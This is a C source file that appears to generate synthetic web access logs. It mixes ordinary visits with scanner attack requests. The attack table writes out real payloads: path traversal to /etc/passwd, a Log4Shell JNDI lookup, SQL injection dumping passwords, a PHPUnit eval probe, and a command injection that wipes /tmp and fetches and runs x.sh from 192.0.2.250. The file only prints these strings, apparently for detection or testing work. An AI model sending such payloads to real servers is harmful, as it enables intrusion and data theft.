/* web: an access log in the combined format, with what scanners try among its visits. */
#include "scene.h"

#define BROWSER \
	"\"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\""
#define PHONE                                                                       \
	"\"Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) " \
	"Chrome/126.0 Mobile Safari/537.36\""

static const char *const VISITS[] = {
	"%A - - [%T] \"GET / HTTP/1.1\" 200 %d \"-\" " BROWSER,
	"%A - - [%T] \"GET /css/site.css?v=%d HTTP/1.1\" 200 %d "
	"\"https://www.example/\" " BROWSER,
	"%A - - [%T] \"GET /js/app.%x.js HTTP/2.0\" 304 0 \"https://www.example/\" " PHONE,
	"%A - - [%T] \"GET /news/%d/how-we-brew-coffee HTTP/2.0\" 200 %d "
	"\"https://search.example/?q=coffee\" " PHONE,
	"%A - - [%T] \"GET /images/%x.webp HTTP/2.0\" 200 %d "
	"\"https://www.example/news/%d\" " BROWSER,
	"%A - alice [%T] \"POST /api/v1/notes HTTP/2.0\" 201 %e "
	"\"https://www.example/notes\" " BROWSER,
	"%A - - [%T] \"GET /shop/item/%d?colour=blue&size=%e HTTP/1.1\" 200 %d \"-\" " PHONE,
	"%A - - [%T] \"GET /favicon.ico HTTP/1.1\" 200 %d \"-\" " BROWSER,
	"%A - - [%T] \"GET /feed.xml HTTP/1.1\" 304 0 \"-\" \"FeedReader/2.1\"",
	"%A - - [%T] \"GET /old/page-%d.html HTTP/1.1\" 404 %d \"-\" " BROWSER,
};

static const char *const ATTACKS[] = {
	"%A - - [%T] \"GET /.env HTTP/1.1\" 404 %d \"-\" \"Mozilla/5.0\"",
	"%A - - [%T] \"GET /.git/config HTTP/1.1\" 404 %d \"-\" \"Go-http-client/1.1\"",
	"%A - - [%T] \"GET /cgi-bin/.%%2e/.%%2e/.%%2e/.%%2e/etc/passwd HTTP/1.1\" 400 %e "
	"\"-\" \"-\"",
	"%A - - [%T] \"POST /cgi-bin/.%%2e/.%%2e/.%%2e/.%%2e/bin/sh HTTP/1.1\" 400 %e \"-\" "
	"\"libredtail-http\"",
	"%A - - [%T] \"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\" "
	"404 %e \"-\" \"python-requests/2.28.1\"",
	"%A - - [%T] \"GET /?x=${jndi:ldap://192.0.2.250:1389/%x} HTTP/1.1\" 200 %d \"-\" "
	"\"${jndi:ldap://192.0.2.250:1389/a}\"",
	"%A - - [%T] \"GET /index.php?s=/Index/\\think\\app/invokefunction&function="
	"call_user_func_array&vars[0]=md5 HTTP/1.1\" 404 %e \"-\" \"Mozilla/5.0\"",
	"%A - - [%T] \"GET /download?file=../../../../../../etc/passwd HTTP/1.1\" 404 %e "
	"\"-\" \"curl/7.88.1\"",
	"%A - - [%T] \"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.250/x.sh;sh+x.sh "
	"HTTP/1.1\" 404 %e \"-\" \"Hello, world\"",
	"%A - - [%T] \"GET /item.php?id=1+UNION+SELECT+1,2,concat(user,0x3a,password)+FROM+"
	"users-- HTTP/1.1\" 404 %e \"-\" \"sqlmap/1.7\"",
	"%A - - [%T] \"POST /wp-login.php HTTP/1.1\" 200 %d "
	"\"https://www.example/wp-login.php\" \"Mozilla/5.0\"",
	"%A - - [%T] \"POST /xmlrpc.php HTTP/1.1\" 403 %e \"-\" \"Mozilla/5.0\"",
};

#define PICK(scene, table) \
	((table)[scene_random(scene, sizeof(table) / sizeof *(table))])

static void web_step(struct scene *scene)
{
	struct actor actor = { .user = "" };

	if (!scene_behind(scene)) {
		actor.source = scene_staff(scene);
		scene_say(scene, &actor, PICK(scene, VISITS));
		return;
	}
	actor.source = scene_source(scene);
	scene_say(scene, &actor, PICK(scene, ATTACKS));
	scene_count(scene, actor.source);
}

const struct kind kind_web = { "web", 20, web_step };
